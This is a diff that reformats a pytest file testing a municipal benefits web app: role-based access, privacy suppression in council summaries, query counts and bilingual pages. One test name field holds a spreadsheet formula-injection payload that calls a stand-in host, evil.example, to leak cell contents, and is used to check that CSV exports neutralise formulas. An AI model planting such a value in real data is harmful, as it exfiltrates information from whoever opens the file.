@@ -24,20 +24,33 @@ DAY = datetime.date(2025, 7, 1)
 
 @pytest.fixture
 def decided(fire, make_application, make_person, head):
-    application = make_application(fire, person=make_person(first_name="ქეთევან", last_name="გაბუნია",
-                                                            personal_number="01024054321"))  # fmt: skip
-    services.application_decide(application=application, decided_by=head, approved=True, amount=Decimal(1500),
-                                decided_on=DAY)  # fmt: skip
+    application = make_application(
+        fire, person=make_person(first_name="ქეთევან", last_name="გაბუნია", personal_number="01024054321")
+    )
+    services.application_decide(
+        application=application, decided_by=head, approved=True, amount=Decimal(1500), decided_on=DAY
+    )
     return application
 
 
 def register_form_data(service, **overrides):
     data = {
-        "personal_number": "01001099999", "first_name": "მარიამ", "last_name": "ბენდელიანი", "sex": "female",
-        "birth_date": "1980-03-04", "phone": "599000111", "email": "", "settlement": "ბაჯი", "address": "",
-        "service": service.pk, "channel": "paper", "received_on": "2025-07-02", "requested_amount": "",
-        "feedback_form_handed": "on", "consent_social_status": "on",
-    }  # fmt: skip
+        "personal_number": "01001099999",
+        "first_name": "მარიამ",
+        "last_name": "ბენდელიანი",
+        "sex": "female",
+        "birth_date": "1980-03-04",
+        "phone": "599000111",
+        "email": "",
+        "settlement": "ბაჯი",
+        "address": "",
+        "service": service.pk,
+        "channel": "paper",
+        "received_on": "2025-07-02",
+        "requested_amount": "",
+        "feedback_form_handed": "on",
+        "consent_social_status": "on",
+    }
     data.update(overrides)
     return data
 
@@ -131,8 +144,10 @@ def test_front_desk_cannot_open_the_decide_form(ambrolauri, fire, make_applicati
     application = make_application(fire)
     client = client_for(ambrolauri, "frontdesk")
     assert client.get(f"/programmes/applications/{application.pk}/decide/").status_code == 403
-    response = client.post(f"/programmes/applications/{application.pk}/decide/",
-                           {"approved": "yes", "amount": "100", "decided_on": "2025-07-05"})  # fmt: skip
+    response = client.post(
+        f"/programmes/applications/{application.pk}/decide/",
+        {"approved": "yes", "amount": "100", "decided_on": "2025-07-05"},
+    )
     assert response.status_code == 403
     application.refresh_from_db()
     assert application.status == Status.RECEIVED
@@ -146,8 +161,12 @@ def test_a_council_member_sees_aggregates_but_never_names_or_personal_numbers(am
         "/programmes/applications/export.csv",
     ):
         assert client.get(url).status_code == 403, url
-    for url in ("/programmes/summary/", "/programmes/budget/?year=2025", "/programmes/catalogue/",
-                "/programmes/budget/export.csv?year=2025"):  # fmt: skip
+    for url in (
+        "/programmes/summary/",
+        "/programmes/budget/?year=2025",
+        "/programmes/catalogue/",
+        "/programmes/budget/export.csv?year=2025",
+    ):
         response = client.get(url)
         assert response.status_code == 200, url
         body = b"".join(response.streaming_content) if response.streaming else response.content
@@ -176,12 +195,19 @@ def test_the_council_summary_hides_figures_that_subtraction_would_reveal(
     # newborn: 6 applications, 1 rejected and 5 approved; fire: 7, all approved (4 women, 3 men).
     for n in range(6):
         application = make_application(newborn)
-        services.application_decide(application=application, decided_by=head, approved=n > 0, amount=None,
-                                    reason="" if n else "not eligible", decided_on=DAY)  # fmt: skip
+        services.application_decide(
+            application=application,
+            decided_by=head,
+            approved=n > 0,
+            amount=None,
+            reason="" if n else "not eligible",
+            decided_on=DAY,
+        )
     for n in range(7):
         application = make_application(fire, person=make_person(sex="female" if n < 4 else "male"))
-        services.application_decide(application=application, decided_by=head, approved=True, amount=Decimal(1000),
-                                    decided_on=DAY)  # fmt: skip
+        services.application_decide(
+            application=application, decided_by=head, approved=True, amount=Decimal(1000), decided_on=DAY
+        )
     response = client_for(ambrolauri, "council").get("/programmes/summary/")
     rows = {r["code"]: r for r in response.context["rows"]}
     totals = response.context["totals"]
@@ -295,9 +321,15 @@ def test_the_head_edits_the_catalogue(ambrolauri, programme):
     client = client_for(ambrolauri, "head")
     response = client.post(
         f"/programmes/catalogue/programmes/{programme.pk}/services/new/",
-        {"code": "home_care", "name_ka": "შინ მოვლა", "name_en": "Home care", "kind": "service",
-         "amount_rule": "none", "position": 3},
-    )  # fmt: skip
+        {
+            "code": "home_care",
+            "name_ka": "შინ მოვლა",
+            "name_en": "Home care",
+            "kind": "service",
+            "amount_rule": "none",
+            "position": 3,
+        },
+    )
     assert response.status_code == 302
     service = programme.services.get(code="home_care")
     response = client.post(
@@ -321,8 +353,9 @@ def test_pages_switch_to_english(ambrolauri, newborn):
     assert "Newborn aid" in page
 
 
-def test_front_desk_corrects_an_undecided_application_and_the_history_keeps_it(ambrolauri, fire, newborn,
-                                                                               make_application):  # fmt: skip
+def test_front_desk_corrects_an_undecided_application_and_the_history_keeps_it(
+    ambrolauri, fire, newborn, make_application
+):
     application = make_application(fire)
     client = client_for(ambrolauri, "frontdesk")
     response = client.post(
@@ -388,11 +421,24 @@ def test_budget_summary_and_detail_cost_the_same_queries_for_more_rows(
 ):
     client = client_for(ambrolauri, "head")
     application = make_application(newborn)
-    one = [_queries(client, url) for url in ("/programmes/budget/?year=2025", "/programmes/summary/",
-                                             f"/programmes/applications/{application.pk}/")]  # fmt: skip
+    one = [
+        _queries(client, url)
+        for url in (
+            "/programmes/budget/?year=2025",
+            "/programmes/summary/",
+            f"/programmes/applications/{application.pk}/",
+        )
+    ]
     for code in ("a", "b", "c"):
-        service = services.service_create(created_by=head, programme=programme, code=code, name_ka=code,
-                                          kind="one_time_cash", amount_rule="cap", amount=Decimal(100))  # fmt: skip
+        service = services.service_create(
+            created_by=head,
+            programme=programme,
+            code=code,
+            name_ka=code,
+            kind="one_time_cash",
+            amount_rule="cap",
+            amount=Decimal(100),
+        )
         services.budget_line_set(set_by=head, service=service, planned=Decimal(1000))
         make_application(service)
     services.application_decide(
@@ -400,8 +446,14 @@ def test_budget_summary_and_detail_cost_the_same_queries_for_more_rows(
     )
     services.payment_record(application=application, recorded_by=head, amount=Decimal(200), paid_on=DAY)
     services.payment_record(application=application, recorded_by=head, amount=Decimal(300), paid_on=DAY)
-    many = [_queries(client, url) for url in ("/programmes/budget/?year=2025", "/programmes/summary/",
-                                              f"/programmes/applications/{application.pk}/")]  # fmt: skip
+    many = [
+        _queries(client, url)
+        for url in (
+            "/programmes/budget/?year=2025",
+            "/programmes/summary/",
+            f"/programmes/applications/{application.pk}/",
+        )
+    ]
     assert one == many
 
 
@@ -435,11 +487,13 @@ def test_a_commission_member_cannot_open_or_export_the_application_register(ambr
 EVIL_NAME = '=HYPERLINK("http://evil.example/?"&H2,"x")'
 
 
-def test_a_name_that_looks_like_a_formula_is_exported_as_plain_text(ambrolauri, fire, make_application,
-                                                                    make_person, head):  # fmt: skip
+def test_a_name_that_looks_like_a_formula_is_exported_as_plain_text(
+    ambrolauri, fire, make_application, make_person, head
+):
     application = make_application(fire, person=make_person(first_name=EVIL_NAME, last_name="@SUM(1)"))
-    services.application_decide(application=application, decided_by=head, approved=True, amount=Decimal(1500),
-                                decided_on=DAY)  # fmt: skip
+    services.application_decide(
+        application=application, decided_by=head, approved=True, amount=Decimal(1500), decided_on=DAY
+    )
     client = client_for(ambrolauri, "head")
 
     response = client.get("/programmes/applications/export.csv")
@@ -460,8 +514,9 @@ def test_a_name_that_looks_like_a_formula_is_exported_as_plain_text(ambrolauri, 
 def test_a_service_name_that_could_start_a_formula_is_neutralised_in_the_budget_export(
     ambrolauri, head, programme, prefix
 ):
-    service = services.service_create(created_by=head, programme=programme, code="odd", name_ka=f"{prefix}1+1",
-                                      kind="service")  # fmt: skip
+    service = services.service_create(
+        created_by=head, programme=programme, code="odd", name_ka=f"{prefix}1+1", kind="service"
+    )
     services.budget_line_set(set_by=head, service=service, planned=Decimal(100))
     client = client_for(ambrolauri, "head")
     text = b"".join(client.get("/programmes/budget/export.csv?year=2025").streaming_content).decode(
@@ -475,8 +530,9 @@ def test_a_service_name_that_could_start_a_formula_is_neutralised_in_the_budget_
     assert cells[2].value.startswith("'") and cells[2].data_type == "s" and cells[3].value == 100
 
 
-def test_the_register_form_refuses_someone_elses_personal_number_with_a_different_name(ambrolauri, fire,
-                                                                                      make_person):  # fmt: skip
+def test_the_register_form_refuses_someone_elses_personal_number_with_a_different_name(
+    ambrolauri, fire, make_person
+):
     person = make_person(personal_number="01001099999", first_name="ნინო", last_name="ჩიხლაძე")
     client = client_for(ambrolauri, "frontdesk")
     response = client.post("/programmes/applications/new/", register_form_data(fire))
@@ -489,8 +545,9 @@ def test_the_register_form_refuses_someone_elses_personal_number_with_a_differen
     assert not BenefitApplication.objects.exists()
 
 
-def test_the_front_desk_changes_the_applicants_phone_and_the_page_shows_who_did(ambrolauri, fire,
-                                                                               make_application):  # fmt: skip
+def test_the_front_desk_changes_the_applicants_phone_and_the_page_shows_who_did(
+    ambrolauri, fire, make_application
+):
     application = make_application(fire)
     person = application.applicant
     client = client_for(ambrolauri, "frontdesk")
@@ -528,7 +585,10 @@ def test_the_council_summary_marks_every_hidden_cell_alike_and_explains_the_mark
     assert "დამალულია პირადი მონაცემების დასაცავად" in legend and "5" in legend
     client.post("/i18n/setlang/", {"language": "en", "next": "/programmes/summary/"})
     page = client.get("/programmes/summary/").content.decode()
-    assert "hidden to protect privacy: fewer than 5, or a figure from which such a number could be worked out" in page
+    assert (
+        "hidden to protect privacy: fewer than 5, or a figure from which such a number could be worked out"
+        in page
+    )
     api_row = client.get("/api/v1/programmes/summary/").json()[0]
     assert (api_row["paper"], api_row["email"]) == (None, None), "the API keeps null for hidden cells"
 
@@ -548,18 +608,24 @@ def test_the_register_keeps_numbers_on_one_line_and_gives_the_full_service_name_
 
 def test_the_catalogue_and_budget_read_in_one_language_each(ambrolauri, newborn):
     client = client_for(ambrolauri, "head")
-    ka = client.get("/programmes/catalogue/").content.decode() + client.get(
-        "/programmes/budget/?year=2025").content.decode()  # fmt: skip
+    ka = (
+        client.get("/programmes/catalogue/").content.decode()
+        + client.get("/programmes/budget/?year=2025").content.decode()
+    )
     assert ">edit<" not in ka and ">budget<" not in ka and ">Edit<" not in ka
     assert "რიგითობა" in ka, "the service's display order is not a job title"
     assert "თანამდებობა" not in ka
     client.post("/i18n/setlang/", {"language": "en", "next": "/programmes/catalogue/"})
-    en = client.get("/programmes/catalogue/").content.decode() + client.get(
-        "/programmes/budget/?year=2025").content.decode()  # fmt: skip
+    en = (
+        client.get("/programmes/catalogue/").content.decode()
+        + client.get("/programmes/budget/?year=2025").content.decode()
+    )
     assert ">Edit<" in en and ">edit<" not in en and ">budget<" not in en
     assert 'title="display order"' in en
 
 
 def test_the_service_form_labels_the_order_as_display_order_in_georgian(ambrolauri, newborn):
-    page = client_for(ambrolauri, "head").get(f"/programmes/catalogue/services/{newborn.pk}/").content.decode()
+    page = (
+        client_for(ambrolauri, "head").get(f"/programmes/catalogue/services/{newborn.pk}/").content.decode()
+    )
     assert "რიგითობა" in page and "თანამდებობა" not in page
